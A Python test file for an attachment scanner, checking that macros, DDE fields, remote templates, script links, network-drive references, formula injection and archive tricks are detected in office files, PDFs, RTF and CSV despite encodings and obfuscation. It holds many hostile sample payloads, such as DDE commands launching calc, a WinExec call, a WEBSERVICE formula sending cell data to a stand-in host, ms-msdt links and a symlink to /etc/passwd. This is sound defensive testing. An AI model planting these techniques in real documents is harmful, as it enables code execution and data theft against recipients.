"""What runs is found in any spelling, after any length and behind damaged parts."""

# ruff: noqa: E501 - a case reads best on one line

import io
import struct
import zipfile
from collections.abc import Mapping
from pathlib import Path

import pikepdf
import pytest

from each import each
from ole_files import ole_file
from planted_office import packed
from prongsai.storage.attachments import Runs, Trouble, Unread, read, reading
from prongsai.storage.attachments.read import facts_of, readers

WORD = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
KINDS = "[Content_Types].xml"
MACROS = '<Types><Override PartName="/a" ContentType="application/vnd.ms-word.document.{}"/></Types>'
ENABLED = MACROS.format("macroEnabled.main+xml")
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LINK = "<Relationships><Relationship Id='a' Type='{}' Target='{}' TargetMode='External'/></Relationships>"
TEMPLATE = LINK.format(f"{REL}/attachedTemplate", "https://x.example/a.dotm")
PROGRAM = b"MZ\x90\0" + bytes(60)
FORMULA = "=cmd|'/C calc'!A0"


def word(parts: Mapping[str, str | bytes]) -> bytes:
    return packed({"word/document.xml": WORD, **parts})


def linked(target: str, kind: str = "attachedTemplate") -> bytes:
    return word({"word/_rels/a.xml.rels": LINK.format(f"{REL}/{kind}", target)})


def with_member(how: int, data: bytes = PROGRAM) -> bytes:
    """Return a ZIP whose first member is packed in a way that is not known here."""
    name = b"a.txt"
    common = struct.pack("<5H3I2H", 20, 0, how, 0, 33, 7, 4, 4, len(name), 0)
    first = b"PK\3\4" + common + name + b"abcd"
    stream = io.BytesIO()
    stream.write(first)
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr("setup", data)
        entry = zipfile.ZipInfo("a.txt")
        entry.header_offset, entry.compress_type = 0, how
        entry.CRC, entry.compress_size, entry.file_size = 7, 4, 4
        entry.create_system = entry.external_attr = 0
        archive.filelist.insert(0, entry)
        archive._didModify = True  # type: ignore[attr-defined]  # no other way in
    return stream.getvalue()


def form(xml: bytes) -> bytes:
    made, stream = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    made.Root.AcroForm = pikepdf.Dictionary(XFA=made.make_stream(xml))
    made.save(stream)
    return stream.getvalue()


def rtf(instruction: str) -> bytes:
    return ("{\\rtf1{\\field{\\*\\fldinst " + instruction + "}}}").encode()


ODT = "application/vnd.oasis.opendocument.text"
LINKED = "<a xmlns:x='http://www.w3.org/1999/xlink'><b x:href='{}'/></a>"
CELL = "<a xmlns:t='urn:x'><t:cell t:formula='{}'/></a>"
IMAGE = "<a xmlns:x='http://www.w3.org/1999/xlink'><image x:href='{}'/></a>"
INCLUDED = "<w:a xmlns:w='urn:w'><w:fldSimple w:instr='{}'/></w:a>"
LINKS = (
    "https://www.example.go.th/a.exe",
    "mailto:a@example.go.th",
    "file:///C:/Users/a/รายงาน.docx",
    "ms-word:ofe|u|https://a.example/a.docx",
    "data:image/png;base64,AA",
    "โทร:038-123456",
    "คำสั่ง.com",
    "#ข้อ1",
)


def with_link(address: str) -> bytes:
    made, stream = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=address)
    link = pikepdf.Dictionary(Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
    made.pages[0].obj.Annots = pikepdf.Array([link])
    made.save(stream)
    return stream.getvalue()


def with_action(kind: str, file: str) -> bytes:
    made, stream = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), F=file)
    made.save(stream)
    return stream.getvalue()


def sheet(cell: str) -> bytes:
    part = f"<worksheet><row><c>{cell}</c></row></worksheet>"
    return packed({"xl/workbook.xml": "<a/>", "xl/worksheets/sheet1.xml": part})


def with_symlink() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        entry = zipfile.ZipInfo("a.txt")
        entry.create_system, entry.external_attr = 3, 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return stream.getvalue()


MUCH = "a,b\n" * 600_000
RUNNING = {
    "a kind in UTF-16": word({KINDS: ENABLED.encode("utf-16")}),
    "a kind with a letter as a number": word({KINDS: MACROS.format("macro&#69;nabled.main+xml")}),
    "a kind after a megabyte": word({KINDS: " " * 1_100_000 + ENABLED}),
    "a kind in a list in other letters": word({KINDS.lower(): ENABLED}),
    "a template in single quotes": word({"word/_rels/a.xml.rels": TEMPLATE}),
    "a template in a list in capitals": word({"word/_rels/a.XML.RELS": TEMPLATE}),
    "a template with a sign as a number": linked("https&#58;//x.example/a"),
    "a template in capitals": linked("HTTPS://x.example/a"),
    "a template after blanks": linked(" https://x.example/a"),
    "a template on a drive of the network": linked("\\\\x\\a.dotm"),
    "a template on a drive as an address": linked("file://server/a.dotm"),
    "a template on a drive with more slashes": linked("file:////server/a.dotm"),
    "a frame from elsewhere": linked("http://x.example/a", "frame"),
    "a sheet of macros by its link": linked("a.xml", "xlMacrosheet"),
    "a program of DDE under a prefix": packed(
        {
            "xl/workbook.xml": "<a/>",
            "xl/externalLinks/externalLink1.xml": '<x:a xmlns:x="x"><x:ddeLink ddeService="cmd"/></x:a>',
        }
    ),
    "a program behind a part that is not whole": word({"a.xml": "<a><b>", "b.bin": PROGRAM}),
    "a program behind a part with entities": word(
        {"word/media/a.svg": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "b.bin": PROGRAM}
    ),
    "a program behind a member that cannot be unpacked": with_member(9),
    "a program behind a member with a wrong sum": with_member(0),
    "a formula in UTF-16": f"a,b\n1,{FORMULA}\n".encode("utf-16"),
    "a formula after two megabytes": f"{MUCH}1,{FORMULA}\n".encode(),
    "a formula that begins wide": f"a\n＝{FORMULA[1:]}\n".encode(),
    "a formula behind a sign that is not seen": f"a\n\u200b{FORMULA}\n".encode(),
    "an object of RTF after two megabytes": b"{\\rtf1 " + b"a " * 1_100_000 + b"{\\object\\objupdate}}",
    "a field of RTF": rtf("{\\rtlch DDEAUTO c:\\\\windows\\\\calc.exe}"),
    "a field of RTF in pieces": rtf("{\\b D}{\\'44}{\\i E }{cmd}"),
    "a field of RTF made of fields": rtf("{\\field{\\*\\fldinst QUOTE 68 68 69}} cmd"),
    "a field of an old document": ole_file({"WordDocument": b"a\x13 DDEAUTO c:\\\\calc.exe\x14b\x15"}),
    "a field of an old document in UTF-16": ole_file({"WordDocument": "\x13dde cmd\x14\x15".encode("utf-16-le")}),
    "a script of a form under a prefix": form(b"<x:template><x:script>1</x:script>"),
    "a link of a document to a script": linked("java\tscript:alert(1)", "hyperlink"),
    "a link of a document to a tool of Windows": linked("ms-msdt:/id PCWDiagnostic", "hyperlink"),
    "a link of a document to a search elsewhere": linked("search-ms:query=a", "hyperlink"),
    "a link of a document to a program": linked("file:///c:/windows/system32/calc.exe", "hyperlink"),
    "a link of a document to a program of a network": linked("\\\\x\\a.hta", "hyperlink"),
    "a link of OpenDocument to a script": packed({"mimetype": ODT, "content.xml": LINKED.format("vbscript:1")}),
    "a link of a PDF to a script": with_link("javascript:alert(1)"),
    "a link of a PDF to a program": with_link("file:///c:/windows/calc.exe"),
    "a link of a PDF in UTF-16": with_link("javascript:alert('ก')"),
    "a formula that calls a library": sheet('<f>CALL("Kernel32","WinExec","JCJ","calc",0)</f>'),
    "a formula that sends what is in a cell": sheet('<f>_xlfn.WEBSERVICE("http://x.example/?"&amp;A1)</f>'),
    "a formula in two pieces": sheet("<f>REGI<!-- -->STER.ID(1)</f>"),
    "a program of DDE in a formula": sheet("<f>cmd|'/c calc'!A0</f>"),
    "a program of DDE in a rule": sheet("<formula1>cmd|'/c calc'!A0</formula1>"),
    "a program of DDE in a name": packed({"xl/workbook.xml": "<a><definedName name='a'>cmd|'/c calc'!A0</definedName></a>"}),
    "a formula of OpenDocument that sends": packed({"mimetype": ODT, "content.xml": CELL.format("of:=WEBSERVICE([.A1])")}),
    "a template of RTF in other signs": b"{\\rtf1{\\*\\template \\u104?ttp://x.example/a}}",
    "a template of RTF on a drive": b"{\\rtf1{\\*\\template file://server/a.dotm}}",
    "a link in an archive": with_symlink(),
    "a member of an archive with a drive": packed({"C:\\a.txt": "x"}),
    "a member of an archive at the root": packed({"/etc/a.txt": "x"}),
    "settings of a folder in an archive": packed({"a/Desktop.ini": "x"}),
    "a picture on a drive of the network": linked("\\\\x\\a.png", "image"),
    "a picture on a drive as an address": linked("file:///\\\\x\\a.png", "image"),
    "a picture on a drive as a host": linked("file://x/a.png", "image"),
    "a sound on a drive of the network": linked("//x/a.wav", "audio"),
    "a picture of OpenDocument on a drive": packed({"mimetype": ODT, "content.xml": IMAGE.format("file://x/a.png")}),
    "a field with a picture on a drive": word({"word/a.xml": INCLUDED.format("INCLUDEPICTURE &quot;\\\\\\\\x\\\\a.png&quot;")}),
    "a field with a text on a drive": word({"word/a.xml": INCLUDED.format("includetext file://x/a.txt")}),
    "a PDF that goes to a drive of the network": with_action("GoToR", "\\\\x\\a.pdf"),
    "a PDF that sends to a drive of the network": with_action("SubmitForm", "file://x/a"),
    "a script of a form in UTF-16": form("<template><script>1</script>".encode("utf-16")),
}  # fmt: skip


@pytest.mark.slow
@each("what", RUNNING)
def test_what_runs_is_found(what: str) -> None:
    assert facts_of(RUNNING[what], readers()).runs


HARMLESS = {
    "links of documents": word(
        {
            f"word/_rels/{number}.rels": LINK.format(f"{REL}/hyperlink", target)
            for number, target in enumerate(LINKS)
        }
    ),
    "links of a PDF": with_link("https://www.example.go.th/a.php?b=javascript:1"),
    "formulas": sheet("<f>SUM(A1:B2)+RECALL(1)&amp;HYPERLINK(A1)</f><f>Sheet1!A1</f>"),
    "a formula with a bar and a mark": sheet('<f>A1&amp;"|"&amp;Sheet2!A1</f>'),
    "a template of one's own computer": linked("file:///C:\\Templates\\a.dotm"),
    "a template of one's own Mac": linked("file:///Users/a/a.dotx"),
    "a link of the text": linked("https://www.example.go.th/", "hyperlink"),
    "a field of RTF with a link": rtf(' HYPERLINK "https://www.example.go.th/" '),
    "a table of contents of RTF": rtf("TOC {\\field{\\*\\fldinst PAGEREF _Toc1}}"),
    "a field of an old document": ole_file(
        {"WordDocument": b"\x13 PAGE \x14\x15 DDE 1"}
    ),
    "a list of parts": word({KINDS: MACROS.format("main+xml")}),
    "bars and signs in a table": b"a,-ab|c\n" + b"x" * 600 + b"!\n-cd|e\nf!\n",
    "a picture of another computer's website": linked("https://x.example/a", "image"),
    "a picture of one's own computer": linked("file:///C:\\a\\b.png", "image"),
    "a picture of one's own Mac": linked("file:///Users/a/b.png", "image"),
    "a picture next to the document": linked("../a.png", "image"),
    "a link to a drive of the network": linked("\\\\x\\a.docx", "hyperlink"),
    "a link of OpenDocument to a drive": packed(
        {
            "mimetype": ODT,
            "content.xml": LINKED.format("file://x/a.odt").replace("<b ", "<a "),
        }
    ),
    "a field with a picture of a website": word(
        {"word/a.xml": INCLUDED.format("INCLUDEPICTURE https://x.example/a.png")}
    ),
    "a PDF that goes to another one": with_action("GoToR", "แผน.pdf"),
    "a form that is sent to a website": with_action("SubmitForm", "https://x.example/"),
    "a list of parts that names its rules": word(
        {"META-INF/manifest.xml": '<!DOCTYPE a PUBLIC "x" "Manifest.dtd"><a/>'}
    ),
    "a form": form(b"<template><description/></template>"),
}


@each("what", HARMLESS)
def test_what_offices_have_is_not_taken_for_it(what: str) -> None:
    facts = facts_of(HARMLESS[what], readers())
    assert (facts.runs, facts.trouble) == (Runs.NOTHING, Trouble.NONE)


@pytest.mark.parametrize(
    "first", ["ppt/presentation.xml", "word/document.xml", "a.txt"]
)
def test_what_unpacks_to_too_much_is_not_known(
    first: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    most = reading.MAX_UNPACKED // 20  # as much as a test has to unpack
    monkeypatch.setattr(reading, "MAX_UNPACKED", most)
    big = bytes(most + 1)
    facts = facts_of(packed({first: "<a/>", "b.bin": big, "c": PROGRAM}), readers())
    assert facts.trouble is Trouble.SUSPICIOUS
    assert Unread.BROKEN in facts.unread


def test_a_member_with_a_password_hides_no_other() -> None:
    stream = io.BytesIO(packed({"a.txt": b"abc", "setup": PROGRAM}))
    data = bytearray(stream.getvalue())
    data[6] |= 1
    data[data.index(b"PK\1\2") + 8] |= 1
    facts = facts_of(bytes(data), readers())
    assert facts.runs is Runs.PROGRAM
    assert Unread.LOCKED in facts.unread


def test_a_program_in_a_file_that_is_too_large_to_search_is_found(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(read, "MAX_READ", 100)
    path = tmp_path / "a.zip"
    path.write_bytes(packed({"a.txt": b"abc", "setup": PROGRAM}))
    _, facts = read.judge(path)
    assert (facts.runs, facts.unread) == (Runs.PROGRAM, (Unread.LIMIT,))
